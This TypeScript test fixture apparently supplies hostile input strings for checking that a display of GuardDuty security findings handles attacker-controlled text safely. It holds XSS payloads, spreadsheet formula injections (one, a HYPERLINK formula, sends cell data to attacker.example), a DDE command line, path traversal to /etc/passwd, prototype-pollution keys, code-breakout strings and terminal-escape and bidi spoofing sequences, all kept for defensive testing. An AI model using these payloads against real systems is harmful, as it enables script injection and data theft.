/**
 * Text as an attacker may choose it: findings carry process paths, user agents, object keys, tags and names of the workloads
 * that they tell of. Whatever shows findings has to stand all of these. No half surrogate pair: GuardDuty writes UTF-8, which
 * has none, and parsers such as jq refuse one.
 */
export const HOSTILE_TEXTS: readonly string[] = [
    "<script>window.pwned=1</script>",
    '"><img src=x onerror="window.pwned=1">',
    "</script><script>window.pwned=1</script>",
    "<!--<script>",
    "<svg/onload=window.pwned=1>",
    "' autofocus onfocus='window.pwned=1",
    "javascript:window.pwned=1",
    '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tfirst\r\nsecond line\r\n| a | table |",
    "[click here](javascript:window.pwned=1) ![x](https://attacker.example/x.png)",
    "# heading\n- [x] done\n@everyone",
    "`code` ```js\nwindow.pwned=1\n```",
    "${process.exit(1)} {{7*7}} %s %n",
    '\\" }], allowBroadSuppression: true }); process.exit(1); //',
    "*/ process.exit(1); /*",
    "\u0000\u0007\u001b[31mred\u001b[0m\u001b]0;title\u0007",
    "\u202egpj.exe\u202c",
    "line\u2028separator\u2029here",
    "zero\u200bwidth\ufeffmark",
    "../../../../etc/passwd",
    "__proto__",
    "constructor",
    `${"A".repeat(20_000)}<b>`,
];
